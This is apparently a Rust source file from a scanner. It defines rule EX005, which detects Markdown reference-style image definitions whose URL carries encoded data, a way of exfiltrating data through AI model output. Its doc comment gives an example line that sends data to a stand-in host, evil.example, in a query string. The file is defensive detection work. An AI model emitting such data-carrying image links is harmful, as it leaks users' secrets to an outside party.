//! # What it finds
//! A Markdown reference definition whose address carries data.
//!
//! # Why it matters
//! The picture stands in one place and its address in another, so that filters for images see neither.
//!
//! # Example
//! `[1]: https://evil.example/p.png?d=U2VjcmV0...`
//!
//! # Limits and sources
//! Footnotes with plain addresses are clean.

use super::carry;
use crate::rule::{Anchor, Candidate, Exact, Family, Hit, Matcher, Rule};

/// See the [module](self).
pub const RULE: Rule = Rule {
    id: "EX005",
    name: "reference-image",
    family: Family::Link,
    category: "link.image",
    tags: &["owasp:LLM02", "owasp:LLM05", "owasp-agentic:ASI02", "atlas:AML.T0077"],
    matcher: Matcher::Exact(Exact {
        pattern: r"(?i)\][ \t]?: {0,4}<?(?:https?:)?//[^ )\n]{1,2048}",
        anchor: Anchor::Literals(&["]:", "] :", "]	:"]),
        longest: 2090,
        verify,
    }),
};

fn verify(candidate: &Candidate<'_>) -> Option<Hit> {
    carry::payload(carry::address_in(candidate.matched()))
}
